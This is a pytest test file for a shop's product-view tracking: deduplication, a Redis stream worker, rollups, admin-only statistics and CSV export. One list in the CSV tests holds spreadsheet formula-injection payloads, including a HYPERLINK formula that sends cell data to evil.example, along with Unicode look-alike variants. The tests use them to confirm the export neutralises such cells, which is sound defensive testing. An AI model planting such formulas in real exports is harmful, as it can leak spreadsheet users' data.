"""Product views are recorded on every successful read; admins read the statistics."""

from __future__ import annotations

import csv
import io
import random
import socket
import threading
from datetime import UTC, date, datetime, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st
from prometheus_client import REGISTRY
from sqlalchemy import delete, event, insert, select, update

from app import create_app
from app.catalog.models import Product
from app.cli import ROLLUP_LOCK
from app.core import config, dialect, redis_client
from app.core.extensions import db
from app.core.spreadsheets import csv_cell, plain_cell
from app.views import recorder, rollups, stream
from app.views.models import (
    DailyCatalogViews,
    DailyProductViewer,
    DailyProductViews,
    DailySkuViews,
    ProductView,
    WeeklySkuViews,
)
from app.views.recorder import new_view_id
from app.views.rollups import View
from app.views.stream import ViewsConsumer
from app.worker import Worker

TODAY = datetime.now(UTC).date()


def flush(app) -> None:
    """What the running worker does next: write what the views stream holds."""
    Worker(app).drain()


def product_id(app, sku: str) -> int:
    with app.app_context():
        return db.session.scalar(select(Product.id).where(Product.sku == sku))


def views_of(rows, app, sku):
    return rows(ProductView, ProductView.product_id == product_id(app, sku))


def test_each_successful_read_is_one_view_anonymous_or_registered(app, client, make, reader, rows):
    make.product("abc")
    for _ in range(3):
        assert client.get("/api/products/abc").status_code == 200
    assert client.get("/api/products/abc/", headers=reader["headers"]).status_code == 200
    flush(app)

    views = views_of(rows, app, "abc")
    assert len(views) == 4
    assert sorted(v.user_id or 0 for v in views) == [0, 0, 0, reader["id"]]
    assert all(abs(v.viewed_at - datetime.now(UTC)) < timedelta(minutes=1) for v in views)


def test_not_found_reads_and_the_list_record_nothing(app, client, make, rows):
    make.product("abc")
    assert client.get("/api/products/nope").status_code == 404
    assert client.get("/api/products").status_code == 200
    assert client.get("/api/products?q=abc").status_code == 200
    flush(app)
    assert rows(ProductView) == []


def test_a_refused_token_records_nothing(app, client, make, rows):
    make.product("abc")
    assert client.get("/api/products/abc", headers={"Authorization": "Bearer x"}).status_code == 401
    flush(app)
    assert rows(ProductView) == []


def test_without_redis_each_view_is_written_within_the_read(app, client, make, rows):
    assert app.config["REDIS_URL"] is None
    make.product("abc")
    client.get("/api/products/abc")
    assert len(rows(ProductView)) == 1  # no worker needed


def read_from(client, sku, address, headers=None):
    response = client.get(
        f"/api/products/{sku}", headers=headers or {}, environ_base={"REMOTE_ADDR": address}
    )
    assert response.status_code == 200


def dedup_scenario(app, client, make, reader) -> None:
    """Reads that a 60 s window counts as 4 views: 10.0.0.1 reads abc 5 times, 10.0.0.2
    once, the reader 3 times from two addresses, and 10.0.0.1 reads xyz once."""
    app.config["VIEW_DEDUP_SECONDS"] = 60
    recorder.init_app(app)  # the view policy is chosen when the app is built
    make.product("abc")
    make.product("xyz")
    for _ in range(5):
        read_from(client, "abc", "10.0.0.1")
    read_from(client, "abc", "10.0.0.2")
    for address in ("10.0.0.1", "10.0.0.3", "10.0.0.3"):
        read_from(client, "abc", address, reader["headers"])
    read_from(client, "xyz", "10.0.0.1")
    flush(app)


@pytest.mark.parametrize("store", ["process", "redis"])
def test_view_dedup_counts_a_client_once_per_product_and_window(
    app, client, make, reader, admin, rows, request, store
):
    if store == "redis":
        conn = request.getfixturevalue("streamed")
    dedup_scenario(app, client, make, reader)

    stats = client.get("/api/products/abc/stats", headers=admin["headers"]).json
    assert (stats["anonymous_views"], stats["registered_views"]) == (2, 1)
    assert len(views_of(rows, app, "xyz")) == 1
    if store == "redis":
        keys = conn.keys(f"{stream.VIEWED_PREFIX}*")
        assert len(keys) == 4
        assert all(0 < conn.ttl(key) <= 60 for key in keys)


def test_view_dedup_is_off_by_default(app, client, make, rows):
    assert app.config["VIEW_DEDUP_SECONDS"] == 0
    make.product("abc")
    for _ in range(3):
        read_from(client, "abc", "10.0.0.1")
    assert len(views_of(rows, app, "abc")) == 3


def test_with_redis_a_read_appends_to_the_stream_and_the_worker_writes_it(
    app, client, make, reader, rows, streamed
):
    make.product("abc")
    for headers in ({}, {}, reader["headers"]):
        assert client.get("/api/products/abc", headers=headers).status_code == 200
    assert streamed.xlen(stream.VIEWS_STREAM) == 3
    assert rows(ProductView) == []  # the read only appended

    flush(app)
    views = views_of(rows, app, "abc")
    assert sorted(v.user_id or 0 for v in views) == [0, 0, reader["id"]]
    assert len({v.view_id for v in views}) == 3  # each read's view has an id of its own
    assert streamed.xpending(stream.VIEWS_STREAM, stream.VIEWS_GROUP)["pending"] == 0
    assert streamed.xlen(stream.VIEWS_STREAM) <= 1  # acknowledged entries are trimmed
    daily = rows(DailyProductViews)
    assert [(d.anonymous_views, d.registered_views) for d in daily] == [(2, 1)]


def test_a_batch_applied_again_after_a_lost_acknowledgement_changes_nothing(
    app, client, make, rows, streamed
):
    make.product("abc")
    for _ in range(5):
        client.get("/api/products/abc")
    with app.app_context():
        first = ViewsConsumer(streamed, "first", batch=100, block_ms=0, idle_ms=0)
        first.ensure_group()
        entries = first._read(block=False)  # delivered to the first consumer...
        assert len(entries) == 5
        written = rollups.write_views([stream.parse_view(i, f) for i, f in entries])
        assert written == 5  # ...written, and then it died before XACK

        second = ViewsConsumer(streamed, "second", batch=100, block_ms=0, idle_ms=0)
        assert second.reclaim() == 5  # the entries are taken over and applied again
    assert len(rows(ProductView)) == 5
    assert [d.anonymous_views for d in rows(DailyProductViews)] == [5]
    assert streamed.xpending(stream.VIEWS_STREAM, stream.VIEWS_GROUP)["pending"] == 0


def test_when_redis_is_down_the_read_answers_and_the_view_is_written_directly(
    app, client, make, rows, streamed
):
    make.product("abc")
    with socket.socket() as sock:  # a port where nothing listens
        sock.bind(("127.0.0.1", 0))
        dead = f"redis://127.0.0.1:{sock.getsockname()[1]}/0"
    app.extensions["redis"] = redis_client.connect(dead, timeout=0.5)
    assert client.get("/api/products/abc").status_code == 200
    views = rows(ProductView)
    assert len(views) == 1 and len(views[0].view_id) == 32
    assert streamed.xlen(stream.VIEWS_STREAM) == 0


def test_when_both_are_down_the_read_answers_and_the_lost_view_is_counted(app, caplog):
    with socket.socket() as sock:  # a port where nothing listens: neither Redis nor MySQL
        sock.bind(("127.0.0.1", 0))
        dead = sock.getsockname()[1]
    down = create_app(config.TestConfig(f"mysql://root@127.0.0.1:{dead}/gone"))
    down.extensions["redis"] = redis_client.connect(f"redis://127.0.0.1:{dead}/0", timeout=0.5)
    lost_before = REGISTRY.get_sample_value("marketplace_views_lost_total") or 0
    with down.test_request_context():
        assert recorder.recorder().record(1, None, None) == "lost"
    assert REGISTRY.get_sample_value("marketplace_views_lost_total") == lost_before + 1
    assert any("view of product 1 by anonymous lost" in r.getMessage() for r in caplog.records)


def test_a_not_modified_answer_is_a_view_and_head_is_not(app, client, make, rows):
    make.product("abc")
    first = client.get("/api/products/abc")
    tag = first.headers["ETag"]
    again = client.get("/api/products/abc", headers={"If-None-Match": tag})
    assert again.status_code == 304 and again.headers["ETag"] == tag
    assert client.head("/api/products/abc").status_code == 200
    assert len(rows(ProductView)) == 2


# ---------------------------------------------------------------- statistics


def seed_views(app, sku: str, per_day: dict[date, tuple[int, list[int]]]) -> None:
    """per_day: day -> (anonymous views, [user ids of registered views])."""
    pid = product_id(app, sku)
    views = []
    for day, (anonymous, users) in per_day.items():
        at = datetime.combine(day, datetime.min.time(), tzinfo=UTC) + timedelta(hours=12)
        views += [View(new_view_id(), pid, None, at) for _ in range(anonymous)]
        views += [View(new_view_id(), pid, uid, at) for uid in users]
    with app.app_context():
        rollups.write_views(views)


@pytest.fixture
def viewers(make):
    return [make.reader(email=f"viewer{n}@example.com") for n in range(3)]


def test_product_stats_per_day_with_empty_days(app, client, make, admin, viewers):
    make.product("abc", name="zapatos")
    u1, u2 = viewers[0]["id"], viewers[1]["id"]
    d1, d3 = date(2026, 3, 1), date(2026, 3, 3)
    seed_views(app, "abc", {d1: (2, [u1, u1]), d3: (1, [u2, u1])})

    response = client.get(
        "/api/products/abc/stats?from=2026-03-01&to=2026-03-04", headers=admin["headers"]
    )
    assert response.status_code == 200
    stats = response.json
    assert stats["sku"] == "abc" and stats["name"] == "zapatos"
    assert stats["from"] == "2026-03-01" and stats["to"] == "2026-03-04"
    assert stats["views"] == 7
    assert stats["anonymous_views"] == 3
    assert stats["registered_views"] == 4
    assert stats["unique_registered_viewers"] == 2
    assert stats["by_day"] == [
        {"date": "2026-03-01", "views": 4, "anonymous_views": 2, "registered_views": 2},
        {"date": "2026-03-02", "views": 0, "anonymous_views": 0, "registered_views": 0},
        {"date": "2026-03-03", "views": 3, "anonymous_views": 1, "registered_views": 2},
        {"date": "2026-03-04", "views": 0, "anonymous_views": 0, "registered_views": 0},
    ]


def test_stats_default_to_the_last_30_days(app, client, make, admin):
    make.product("abc")
    seed_views(
        app,
        "abc",
        {TODAY: (2, []), TODAY - timedelta(days=29): (1, []), TODAY - timedelta(days=30): (5, [])},
    )
    stats = client.get("/api/products/abc/stats", headers=admin["headers"]).json
    assert stats["to"] == TODAY.isoformat()
    assert stats["from"] == (TODAY - timedelta(days=29)).isoformat()
    assert len(stats["by_day"]) == 30
    assert stats["views"] == 3


def test_what_a_reader_browses_shows_up_in_the_admins_stats(app, client, make, admin, reader):
    make.product("abc")
    client.get("/api/products/abc")
    client.get("/api/products/abc", headers=reader["headers"])
    client.get("/api/products/abc", headers=reader["headers"])
    flush(app)
    stats = client.get("/api/products/abc/stats", headers=admin["headers"]).json
    assert (stats["views"], stats["anonymous_views"], stats["registered_views"]) == (3, 1, 2)
    assert stats["unique_registered_viewers"] == 1
    assert stats["by_day"][-1]["views"] == 3


def test_a_deleted_products_views_stay_in_the_statistics(app, client, make, admin):
    make.product("gone", name="viejo")
    client.get("/api/products/gone")
    flush(app)
    assert client.delete("/api/products/gone", headers=admin["headers"]).status_code == 204

    stats = client.get("/api/products/gone/stats", headers=admin["headers"]).json
    assert stats["views"] == 1
    top = client.get("/api/stats/products", headers=admin["headers"]).json
    assert top == [
        {"sku": "gone", "name": "viejo", "views": 1, "anonymous_views": 1, "registered_views": 0}
    ]


def test_a_re_created_sku_keeps_one_history(app, client, make, admin):
    make.product("shoe", name="old shoe")
    client.get("/api/products/shoe")
    flush(app)
    client.delete("/api/products/shoe", headers=admin["headers"])
    client.post(
        "/api/products",
        json={"sku": "SHOE", "name": "new shoe", "price": 1, "mark": "m"},
        headers=admin["headers"],
    )
    client.get("/api/products/shoe")
    client.get("/api/products/shoe")
    flush(app)

    stats = client.get("/api/products/shoe/stats", headers=admin["headers"]).json
    assert (stats["sku"], stats["name"], stats["views"]) == ("SHOE", "new shoe", 3)
    top = client.get("/api/stats/products", headers=admin["headers"]).json
    assert [(p["sku"].lower(), p["name"], p["views"]) for p in top] == [("shoe", "new shoe", 3)]


def test_top_products_most_viewed_first_by_viewer_kind(app, client, make, admin, viewers):
    for sku in ("a", "b", "c", "quiet"):
        make.product(sku, name=f"Product {sku}")
    u = [v["id"] for v in viewers]
    day = date(2026, 5, 10)
    seed_views(app, "a", {day: (5, [u[0]]), day + timedelta(days=1): (1, [])})
    seed_views(app, "b", {day: (1, [u[0], u[1], u[2], u[1]])})
    seed_views(app, "c", {day - timedelta(days=1): (9, [])})  # outside the range

    query = "from=2026-05-10&to=2026-05-11"
    top = client.get(f"/api/stats/products?{query}", headers=admin["headers"]).json
    assert [(p["sku"], p["views"]) for p in top] == [("a", 7), ("b", 5)]
    assert top[0] == {
        "sku": "a",
        "name": "Product a",
        "views": 7,
        "anonymous_views": 6,
        "registered_views": 1,
    }

    registered = client.get(
        f"/api/stats/products?{query}&viewer=registered", headers=admin["headers"]
    ).json
    assert [p["sku"] for p in registered] == ["b", "a"]
    anonymous = client.get(
        f"/api/stats/products?{query}&viewer=anonymous&limit=1", headers=admin["headers"]
    ).json
    assert [p["sku"] for p in anonymous] == ["a"]


def test_the_worker_keeps_each_skus_views_per_day_across_a_re_created_sku(
    app, client, make, admin, reader, rows, streamed
):
    make.product("shoe", name="old shoe")
    client.get("/api/products/shoe")
    flush(app)
    client.delete("/api/products/shoe", headers=admin["headers"])
    make.product("SHOE", name="new shoe")
    client.get("/api/products/shoe", headers=reader["headers"])
    client.get("/api/products/SHOE")
    flush(app)

    ranked = [
        (r.sku_lower, r.day, r.anonymous_views, r.registered_views, r.views)
        for r in rows(DailySkuViews)
    ]
    assert ranked == [("shoe", TODAY, 2, 1, 3)]
    weekly = [
        (r.sku_lower, r.week, r.anonymous_views, r.registered_views, r.views)
        for r in rows(WeeklySkuViews)
    ]
    assert weekly == [("shoe", TODAY - timedelta(days=TODAY.weekday()), 2, 1, 3)]
    top = client.get("/api/stats/products?viewer=registered", headers=admin["headers"]).json
    assert [(p["name"], p["views"], p["registered_views"]) for p in top] == [("new shoe", 3, 1)]


def test_a_product_never_among_a_days_most_viewed_can_lead_the_range(app, client, make, admin):
    make.product("steady", name="steady seller")
    days = [date(2026, 4, 1) + timedelta(days=n) for n in range(3)]
    seed_views(app, "steady", {day: (5, []) for day in days})  # 15 in all, never a day's best
    for n, day in enumerate(days):
        for sku in (f"hit{n}a", f"hit{n}b"):
            make.product(sku)
            seed_views(app, sku, {day: (6, [])})  # 6 in all, two of each day's best

    query = "from=2026-04-01&to=2026-04-03"
    for limit in (1, 2, 3):
        top = client.get(f"/api/stats/products?{query}&limit={limit}", headers=admin["headers"])
        assert [p["sku"] for p in top.json] == ["steady", "hit0a", "hit0b"][:limit]
        assert top.json[0]["views"] == 15


@pytest.mark.parametrize(
    "per_day",
    [
        # "zz" leads day 1 and ties with "a", which is never above a day's second count.
        [{"zz": 5, "x": 3, "a": 3}, {"y": 3, "a": 3, "zz": 1}],
        # "a" leads day 2 only, and at most could just tie with "b": it does.
        [{"b": 10, "a": 1, "c": 1}, {"a": 9, "d": 5, "e": 5}],
    ],
)
def test_a_tie_for_the_top_goes_to_the_first_sku(app, client, make, admin, per_day):
    days = [date(2026, 8, 1), date(2026, 8, 2)]
    for sku in sorted({sku for counts in per_day for sku in counts}):
        make.product(sku)
        seed_views(
            app,
            sku,
            {day: (counts.get(sku, 0), []) for day, counts in zip(days, per_day, strict=True)},
        )
    top = client.get(
        "/api/stats/products?from=2026-08-01&to=2026-08-02&limit=1", headers=admin["headers"]
    ).json
    assert [p["sku"] for p in top] == ["a"]


def expected_top(seeded: dict[str, dict[date, tuple[int, list[int]]]], limit: int, audience):
    """The top of a range by adding up every seeded view (skus in lower case)."""
    totals = []
    for sku, per_day in seeded.items():
        anon = sum(a for a, _users in per_day.values())
        reg = sum(len(users) for _a, users in per_day.values())
        rank = {"all": anon + reg, "anonymous": anon, "registered": reg}[audience]
        if rank > 0:
            totals.append((-rank, sku, anon + reg, anon, reg))
    return [(sku, views, anon, reg) for _r, sku, views, anon, reg in sorted(totals)[:limit]]


@pytest.mark.parametrize(
    ("first", "last"),
    [
        ("2026-06-01", "2026-06-12"),  # from a Monday: a whole week, then days
        ("2026-06-03", "2026-06-24"),  # days, two whole weeks, days
        ("2026-06-08", "2026-06-21"),  # two whole weeks only
        ("2026-06-09", "2026-06-14"),  # days of one week only
    ],
)
def test_the_most_viewed_are_those_of_adding_up_every_view(
    app, client, make, admin, viewers, first, last
):
    chance = random.Random(29)
    users = [v["id"] for v in viewers]
    seeded = {}
    for n in range(40):
        sku = f"p{n:02d}"
        make.product(sku)
        weight = 40 // (n + 1)  # a few products take most of the views, as in a shop
        seeded[sku] = {
            date(2026, 6, 1) + timedelta(days=d): (
                chance.randint(0, weight),
                [chance.choice(users) for _ in range(chance.randint(0, weight // 2))],
            )
            for d in range(28)
            if chance.random() < 0.7
        }
        seed_views(app, sku, seeded[sku])
    in_range = {
        sku: {day: seen for day, seen in per_day.items() if first <= day.isoformat() <= last}
        for sku, per_day in seeded.items()
    }

    for limit in (1, 3, 10, 25, 100):
        for audience in ("all", "anonymous", "registered"):
            top = client.get(
                f"/api/stats/products?from={first}&to={last}&limit={limit}&viewer={audience}",
                headers=admin["headers"],
            ).json
            got = [(p["sku"], p["views"], p["anonymous_views"], p["registered_views"]) for p in top]
            assert got == expected_top(in_range, limit, audience), (limit, audience)


def parse_csv(response) -> list[dict]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.data.decode())))


def test_csv_matches_the_json(app, client, make, admin, viewers):
    make.product("abc", name="zapatos, rojos")
    make.product("xyz", name='botas "nuevas"')
    day = date(2026, 7, 1)
    seed_views(app, "abc", {day: (2, [viewers[0]["id"]])})
    seed_views(app, "xyz", {day: (1, [])})
    query = "from=2026-07-01&to=2026-07-02"
    h = admin["headers"]

    stats = client.get(f"/api/products/abc/stats?{query}", headers=h).json
    by_day = parse_csv(client.get(f"/api/products/abc/stats?{query}&format=csv", headers=h))
    assert by_day == [{k: str(v) for k, v in day.items()} for day in stats["by_day"]]

    top = client.get(f"/api/stats/products?{query}", headers=h).json
    top_csv = parse_csv(
        client.get(f"/api/stats/products?{query}", headers={**h, "Accept": "text/csv"})
    )
    assert top_csv == [{k: str(v) for k, v in item.items()} for item in top]
    assert top_csv[0]["name"] == "zapatos, rojos"


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    # what a spreadsheet may read as = + - @: fullwidth and small forms, the minus sign
    '\uff1dHYPERLINK("https://evil.example")',  # fullwidth =
    "\uff0b1+1",  # fullwidth +
    "\uff20SUM(A1:A9)",  # fullwidth @
    "\uff0d2+3",  # fullwidth -
    "\u22122+3",  # the minus sign
    "\ufe661+1",  # small =
    "\ufe632+3",  # small -
]


@pytest.mark.parametrize("name", FORMULAS)
def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(app, client, make, admin, name):
    make.product("abc", name=name)
    seed_views(app, "abc", {date(2026, 7, 1): (1, [])})
    response = client.get(
        "/api/stats/products?from=2026-07-01&to=2026-07-01&format=csv", headers=admin["headers"]
    )
    [row] = parse_csv(response)
    assert row["name"] == "'" + name
    assert row["views"] == "1"  # numbers stay numbers


@given(st.text())
def test_the_formula_quote_can_always_be_undone(text):
    """Whatever a cell holds, reading back what the CSV writer wrote gives it back (the
    catalog import takes the export's files), and what could run is quoted."""
    written = csv_cell(text)
    assert plain_cell(written) == text
    if text[:1] in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff20", "\uff0d", "\u2212"):
        assert written == "'" + text


def test_csv_file_names_carry_the_range_and_bom_is_optional(app, client, make, admin):
    make.product("abc", name="café crème")
    seed_views(app, "abc", {date(2026, 7, 1): (1, [])})
    h = admin["headers"]
    query = "from=2026-07-01&to=2026-07-02&format=csv"
    top = client.get(f"/api/stats/products?{query}", headers=h)
    assert top.headers["Content-Disposition"] == (
        'attachment; filename="top-products-2026-07-01-to-2026-07-02.csv"'
    )
    assert top.data.startswith(b"sku,")  # no BOM unless asked
    one = client.get(f"/api/products/abc/stats?{query}", headers=h)
    assert one.headers["Content-Disposition"] == (
        'attachment; filename="abc-views-2026-07-01-to-2026-07-02.csv"'
    )
    with_bom = client.get(f"/api/stats/products?{query}&bom=1", headers=h)
    assert with_bom.data.startswith("\ufeffsku,".encode())
    assert "café crème" in with_bom.data.decode("utf-8-sig")


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("from=2026-03-05&to=2026-03-01", "from"),
        ("from=yesterday", "from"),
        ("to=2026-02-30", "to"),
        ("from=2024-01-01&to=2025-06-01", "to"),
        ("format=xml", "format"),
    ],
)
def test_bad_ranges_are_422_naming_the_field(client, make, admin, query, field):
    make.product("abc")
    for path in ("/api/products/abc/stats", "/api/stats/products", "/api/stats/views"):
        response = client.get(f"{path}?{query}", headers=admin["headers"])
        assert response.status_code == 422, path
        assert field in response.json["errors"]["query"]


def test_statistics_are_for_admins_only(client, make, reader):
    make.product("abc")
    for path in ("/api/products/abc/stats", "/api/stats/products", "/api/stats/views"):
        assert client.get(path).status_code == 401
        assert client.get(path, headers=reader["headers"]).status_code == 403


def test_a_week_mended_while_the_worker_writes_keeps_what_the_worker_wrote(app, make, rows):
    make.product("abc")
    monday = date(2026, 4, 6)
    seed_views(app, "abc", {monday: (2, [])})
    with app.app_context():  # the week's row is wrong
        db.session.execute(update(WeeklySkuViews).values(anonymous_views=9, views=9))
        db.session.commit()
        engine = db.engine
    written = []

    def batch_meanwhile(_conn, _cursor, statement, *args):
        # Right after the rollup has read the week: the worker commits a batch of views.
        if not written and statement.lstrip().startswith("SELECT") and "weekly_sku" in statement:
            written.append(statement)
            worker = threading.Thread(
                target=seed_views, args=(app, "abc", {monday + timedelta(days=1): (3, [])})
            )
            worker.start()
            worker.join()

    event.listen(engine, "after_cursor_execute", batch_meanwhile)
    try:
        with app.app_context():
            rollups.rebuild_rollups(monday, monday + timedelta(days=6))
    finally:
        event.remove(engine, "after_cursor_execute", batch_meanwhile)
    assert written
    weekly = [
        (r.sku_lower, r.week, r.anonymous_views, r.registered_views, r.views)
        for r in rows(WeeklySkuViews)
    ]
    assert weekly == [("abc", monday, 5, 0, 5)]


def test_one_rollup_runs_at_a_time(app, runner):
    with app.app_context(), dialect.named_lock(ROLLUP_LOCK, 0) as got:
        assert got
        sqlite = dialect.is_sqlite()
        result = runner.invoke(args=["stats", "rollup"])
    if sqlite:  # one host, one writer at a time: no lock to take
        assert result.exit_code == 0, result.output
    else:
        assert result.exit_code == 1
        assert "another flask stats rollup is running" in result.output


def test_stats_of_an_unknown_product_is_404(client, admin):
    response = client.get("/api/products/never/stats", headers=admin["headers"])
    assert response.status_code == 404


def test_rollup_rebuilds_from_raw_rows_and_prune_keeps_the_statistics(
    app, client, runner, make, admin, rows
):
    make.product("abc")
    old, recent = date(2026, 1, 10), date(2026, 1, 20)
    seed_views(app, "abc", {old: (3, []), recent: (2, [])})
    make.product("xyz")
    seed_views(app, "xyz", {recent: (4, [])})
    with app.app_context():  # damaged roll-ups
        for model in (DailyProductViews, DailySkuViews, WeeklySkuViews, DailyCatalogViews):
            db.session.execute(model.__table__.delete())
        db.session.commit()

    result = runner.invoke(args=["stats", "rollup", "--from", "2026-01-01", "--to", "2026-01-31"])
    assert result.exit_code == 0, result.output
    assert "rolled up 9 view(s)" in result.output
    query = "from=2026-01-01&to=2026-01-31"
    top = client.get(f"/api/stats/products?{query}", headers=admin["headers"]).json
    assert [(p["sku"], p["views"]) for p in top] == [("abc", 5), ("xyz", 4)]
    assert (
        client.get(f"/api/products/abc/stats?{query}", headers=admin["headers"]).json["views"] == 5
    )
    assert client.get(f"/api/stats/views?{query}", headers=admin["headers"]).json["views"] == 9

    result = runner.invoke(args=["views", "prune", "--before", "2026-01-15"])
    assert "deleted 3 raw view(s)" in result.output
    assert len(rows(ProductView)) == 6
    assert (
        client.get(f"/api/products/abc/stats?{query}", headers=admin["headers"]).json["views"] == 5
    )

    # The week of the pruned day (Monday 2026-01-05) is mended from its days' roll-ups.
    with app.app_context():
        db.session.execute(delete(WeeklySkuViews))
        db.session.commit()
    result = runner.invoke(args=["stats", "rollup", "--from", "2026-01-01", "--to", "2026-01-31"])
    assert "raw views start on 2026-01-20" in result.output
    week = "from=2026-01-05&to=2026-01-11"
    top = client.get(f"/api/stats/products?{week}&limit=1", headers=admin["headers"]).json
    assert [(p["sku"], p["views"]) for p in top] == [("abc", 3)]
    assert len(rows(WeeklySkuViews)) == 3


ROLLUPS = (DailyProductViews, DailySkuViews, WeeklySkuViews, DailyCatalogViews, DailyProductViewer)


def test_a_rollup_mends_every_wrong_row_and_writes_nothing_when_all_are_right(
    app, runner, make, viewers
):
    make.product("abc")
    make.product("xyz")
    u1, u2 = viewers[0]["id"], viewers[1]["id"]
    d1, d2 = date(2026, 4, 1), date(2026, 4, 2)
    seed_views(app, "abc", {d1: (2, [u1, u1]), d2: (0, [u2])})
    seed_views(app, "xyz", {d1: (3, [u2])})
    abc, xyz = product_id(app, "abc"), product_id(app, "xyz")

    def state() -> dict:
        with app.app_context():
            return {
                model.__tablename__: sorted(db.session.execute(select(model.__table__)).all())
                for model in ROLLUPS
            }

    right = state()
    with app.app_context():  # every kind of damage
        products, viewer = DailyProductViews, DailyProductViewer
        db.session.execute(
            update(products)
            .where(products.product_id == abc, products.day == d1)
            .values(anonymous_views=7)
        )
        db.session.execute(
            insert(products).values(product_id=xyz, day=d2, anonymous_views=5, registered_views=0)
        )
        db.session.execute(delete(DailySkuViews).where(DailySkuViews.sku_lower == "xyz"))
        db.session.execute(update(WeeklySkuViews).values(views=1))
        gone = {"anonymous_views": 1, "registered_views": 0, "views": 1}
        db.session.execute(  # a sku the week (from Monday 2026-03-30) never had
            insert(WeeklySkuViews).values(sku_lower="gone", week=date(2026, 3, 30), **gone)
        )
        db.session.execute(update(DailyCatalogViews).values(registered_views=9))
        db.session.execute(delete(viewer).where(viewer.product_id == xyz, viewer.user_id == u2))
        db.session.execute(insert(viewer).values(product_id=abc, day=d2, user_id=u1))
        db.session.commit()
    assert state() != right

    rollup = ["stats", "rollup", "--from", "2026-04-01", "--to", "2026-04-02"]
    result = runner.invoke(args=rollup)
    assert result.exit_code == 0, result.output
    assert "rolled up 9 view(s)" in result.output
    assert state() == right

    with app.app_context():
        engine = db.engine
    writes = []

    def seen(_conn, _cursor, statement, *args):
        if statement.lstrip().split(None, 1)[0].upper() in ("INSERT", "UPDATE", "DELETE"):
            writes.append(statement)

    event.listen(engine, "before_cursor_execute", seen)
    try:
        result = runner.invoke(args=rollup)
    finally:
        event.remove(engine, "before_cursor_execute", seen)
    assert result.exit_code == 0, result.output
    assert "rolled up 9 view(s)" in result.output
    assert writes == []  # right roll-ups: nothing rewritten, nothing locked
    assert state() == right


def test_an_interrupted_rollup_keeps_the_stretches_of_days_it_finished(
    app, client, runner, make, admin, monkeypatch
):
    make.product("abc")
    make.product("xyz")
    days = [date(2026, 2, 1), date(2026, 2, 2), date(2026, 2, 3)]
    seed_views(app, "abc", {day: (n + 1, []) for n, day in enumerate(days)})
    seed_views(app, "xyz", {days[0]: (10, [])})
    with app.app_context():  # damaged roll-ups: every count doubled
        for model in (DailyProductViews, DailyCatalogViews):
            table = model.__table__
            db.session.execute(table.update().values(anonymous_views=table.c.anonymous_views * 2))
        db.session.commit()
    rebuild_days = rollups._rebuild_days

    def failing_on_the_third(first, last):
        if first <= days[2] <= last:
            raise RuntimeError("the database went away")
        return rebuild_days(first, last)

    monkeypatch.setattr(rollups, "DAYS_PER_TRANSACTION", 2)
    monkeypatch.setattr(rollups, "_rebuild_days", failing_on_the_third)
    result = runner.invoke(args=["stats", "rollup", "--from", "2026-02-01", "--to", "2026-02-03"])
    assert result.exit_code != 0

    query = "from=2026-02-01&to=2026-02-03"
    by_day = client.get(f"/api/stats/views?{query}", headers=admin["headers"]).json["by_day"]
    assert [d["views"] for d in by_day] == [11, 2, 6]  # rebuilt, rebuilt, still doubled
    monkeypatch.setattr(rollups, "_rebuild_days", rebuild_days)
    result = runner.invoke(args=["stats", "rollup", "--from", "2026-02-03", "--to", "2026-02-03"])
    assert result.exit_code == 0, result.output
    by_day = client.get(f"/api/stats/views?{query}", headers=admin["headers"]).json["by_day"]
    assert [d["views"] for d in by_day] == [11, 2, 3]
    product = client.get(f"/api/products/abc/stats?{query}", headers=admin["headers"]).json
    assert [d["views"] for d in product["by_day"]] == [1, 2, 3]
